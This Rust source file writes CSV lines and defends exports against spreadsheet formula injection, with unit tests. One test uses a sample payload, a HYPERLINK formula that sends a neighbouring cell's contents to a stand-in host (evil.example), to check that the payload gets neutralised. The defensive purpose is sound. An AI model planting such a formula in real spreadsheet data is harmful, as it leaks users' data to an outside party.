//! The one CSV line writer of every CSV the service produces (exports, gap reports, import
//! templates), and its defence against formula injection.
//!
//! A spreadsheet opening a CSV runs a cell that begins with `=`, `+`, `-` or `@` as a formula
//! (and tab or carriage return can hide such a start). Text cells that begin with one of these get
//! a single quote in front (the OWASP rule), so Excel shows the text as it was typed and the import
//! takes the quote off again ([`unneutralise`]). Numbers and dates are written as they are.
//! A field is quoted when it holds a comma, a semicolon (the list separator Excel uses in Vietnamese
//! locales, which would otherwise split the cell and start a new one), a quote or a line break.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One field of a line.
#[derive(Debug, Clone, Copy)]
pub enum Field<'a> {
    /// Text from the data: neutralised.
    Text(&'a str),
    /// A number or a date written by the service: as it is.
    Plain(&'a str),
}

/// Whether a cell read back would lose its first character to [`unneutralise`]: a single quote
/// before a formula start or before another single quote.
fn quoted(s: &str) -> bool {
    s.strip_prefix('\'')
        .is_some_and(|rest| rest.starts_with(FORMULA_STARTS) || rest.starts_with('\''))
}

/// Text that a spreadsheet would run as a formula, with a single quote in front; so is text that
/// already begins like a quoted cell, so that [`unneutralise`] gives every text back as it was.
pub fn neutralise(s: &str) -> Cow<'_, str> {
    if s.starts_with(FORMULA_STARTS) || quoted(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// The inverse of [`neutralise`], for a cell read back by an import: a single quote followed by
/// a formula start or by another single quote is taken off.
pub fn unneutralise(s: &str) -> &str {
    if quoted(s) {
        &s[1..]
    } else {
        s
    }
}

fn push(out: &mut Vec<u8>, s: &str) {
    if s.contains([',', ';', '"', '\n', '\r']) {
        out.push(b'"');
        out.extend_from_slice(s.replace('"', "\"\"").as_bytes());
        out.push(b'"');
    } else {
        out.extend_from_slice(s.as_bytes());
    }
}

/// One CSV line (comma separated, ending in `\n`).
pub fn line(fields: &[Field<'_>]) -> Vec<u8> {
    let mut out = Vec::with_capacity(fields.len() * 16);
    for (i, f) in fields.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        match f {
            Field::Text(s) => push(&mut out, &neutralise(s)),
            Field::Plain(s) => push(&mut out, s),
        }
    }
    out.push(b'\n');
    out
}

/// A line of `(value, is_text)` cells: text is neutralised, the rest (numbers, dates) is not.
pub fn typed_line(cells: &[(String, bool)]) -> Vec<u8> {
    let fields: Vec<Field<'_>> = cells
        .iter()
        .map(|(s, text)| {
            if *text {
                Field::Text(s)
            } else {
                Field::Plain(s)
            }
        })
        .collect();
    line(&fields)
}

/// A line of text fields (a header row).
pub fn text_line<S: AsRef<str>>(cells: &[S]) -> Vec<u8> {
    let fields: Vec<Field<'_>> = cells.iter().map(|c| Field::Text(c.as_ref())).collect();
    line(&fields)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(bytes: &[u8]) -> Vec<String> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes)
            .records()
            .next()
            .unwrap()
            .unwrap()
            .iter()
            .map(String::from)
            .collect()
    }

    #[test]
    fn every_text_reads_back_as_it_was_written() {
        for text in [
            "'+84 Trường",
            "'=x",
            "''Sổ 2019",
            "'",
            "''",
            "'Kinh",
            "=1",
            "Kinh",
        ] {
            let cell = &read(&line(&[Field::Text(text)]))[0];
            assert_eq!(unneutralise(cell), text, "{cell:?}");
        }
        assert_eq!(
            neutralise("'Kinh"),
            "'Kinh",
            "a lone quote before text stays as it is"
        );
    }

    #[test]
    fn formula_starts_are_neutralised_in_text_only() {
        let evil = "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Kinh\")";
        let out = line(&[
            Field::Text(evil),
            Field::Text("+84 909 123 456"),
            Field::Text("-1"),
            Field::Text("@SUM(A1)"),
            Field::Text("\t=1"),
            Field::Text("\r=1"),
            Field::Text("Kinh"),
            Field::Plain("-3"),
            Field::Plain("2026-01-02"),
            Field::Text(""),
        ]);
        let cells = read(&out);
        assert_eq!(cells[0], format!("'{evil}"));
        assert_eq!(cells[1], "'+84 909 123 456");
        assert_eq!(cells[2], "'-1");
        assert_eq!(cells[3], "'@SUM(A1)");
        assert_eq!(cells[4], "'\t=1");
        assert_eq!(cells[5], "'\r=1");
        assert_eq!(cells[6], "Kinh");
        assert_eq!(cells[7], "-3", "numbers stay numbers");
        assert_eq!(cells[8], "2026-01-02");
        assert_eq!(cells[9], "");
        assert!(out.ends_with(b"\n"));
        for c in &cells[..6] {
            assert!(!c.starts_with(FORMULA_STARTS), "{c:?}");
            assert_eq!(
                unneutralise(c),
                &c[1..],
                "the import takes the quote off again"
            );
        }
        assert_eq!(unneutralise("'quoted"), "'quoted");
        assert_eq!(unneutralise("Kinh"), "Kinh");
    }

    #[test]
    fn separators_quotes_and_breaks_are_quoted() {
        let out = line(&[
            Field::Text("a;=1+1"),
            Field::Text("a,b"),
            Field::Text("say \"hi\""),
            Field::Text("two\nlines"),
            Field::Text("plain"),
        ]);
        assert_eq!(
            String::from_utf8(out.clone()).unwrap(),
            "\"a;=1+1\",\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",plain\n"
        );
        assert_eq!(
            read(&out),
            ["a;=1+1", "a,b", "say \"hi\"", "two\nlines", "plain"]
        );
    }
}
